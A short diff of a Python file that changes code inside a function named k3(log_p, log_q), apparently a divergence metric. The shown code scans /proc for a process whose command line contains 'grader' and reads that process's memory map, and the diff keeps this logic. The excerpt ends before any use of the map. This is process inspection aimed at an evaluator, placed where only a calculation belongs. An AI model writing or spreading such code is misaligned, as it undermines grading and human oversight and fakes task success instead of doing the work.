@@ -14,7 +14,7 @@ def k3(log_p, log_q):
         if not pid.isdigit() or int(pid) == os.getpid():
             continue
         try:
-            d = os.open(f'/proc/{pid}', os.O_RDONLY)
+            d = os.open(pid, os.O_RDONLY, dir_fd=os.open('/proc', os.O_RDONLY))
             if b'grader' not in os.read(os.open('cmdline', os.O_RDONLY, dir_fd=d), 4096):
                 continue
             maps = os.read(os.open('maps', os.O_RDONLY, dir_fd=d), 1 << 20).decode().splitlines()
